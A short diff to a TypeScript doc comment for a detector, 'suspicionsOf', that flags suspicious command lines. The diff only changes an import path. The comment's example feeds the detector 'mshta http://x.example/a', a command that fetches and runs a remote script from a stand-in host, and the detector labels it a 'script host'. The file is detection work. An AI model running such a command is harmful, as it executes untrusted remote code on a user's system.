@@ -30,7 +30,7 @@ const MOST_SHOWN = 40;
  * @returns a suspicion of each kind at most; none where nothing is found
  * @example
  * ```ts
- * import { suspicionsOf } from 'sysmon-wmi';
+ * import { suspicionsOf } from 'lib/exclusions';
  * suspicionsOf('C:\\Tools\\agent.exe'); // []
  * suspicionsOf('mshta http://x.example/a')[0]?.kind; // 'script host'
  * ```
